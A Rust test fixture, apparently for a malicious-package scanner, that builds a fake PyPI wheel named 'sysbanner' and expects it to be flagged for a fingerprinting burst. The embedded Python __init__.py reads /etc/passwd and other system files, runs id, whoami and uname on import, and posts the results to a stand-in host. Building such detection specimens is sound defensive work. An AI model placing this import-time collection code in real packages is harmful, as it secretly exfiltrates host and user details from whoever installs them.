//! A wheel that, when it is imported, asks who and where it is in many ways and sends the answers.
//!
//! Must be found: the burst of questions.

use apa_model::Ecosystem;

use crate::{Expect, Specimen, Wheel};

const INIT: &str = r#"import json
import os
import socket
import subprocess
import urllib.request

told = {"host": socket.gethostname(), "uname": list(os.uname())}
for path in ("/etc/passwd", "/etc/os-release", "/etc/hostname", "/etc/machine-id", "/proc/cpuinfo", "/proc/version"):
    try:
        with open(path) as file:
            told[path] = file.read(2000)
    except OSError:
        pass
for command in (["id"], ["whoami"], ["uname", "-a"], ["hostname"]):
    try:
        told[command[0]] = subprocess.check_output(command, text=True)
    except OSError:
        pass
try:
    urllib.request.urlopen("http://banner.example/x", json.dumps(told).encode(), timeout=5)
except OSError:
    pass
"#;

pub(super) fn specimen() -> Specimen {
    let package = Wheel::new("sysbanner", "1.1.1").file("sysbanner/__init__.py", INIT);
    Specimen {
        name: "pypi-fingerprint",
        ecosystem: Ecosystem::Pypi,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::suspicious(&["host-fingerprint-burst"]),
    }
}
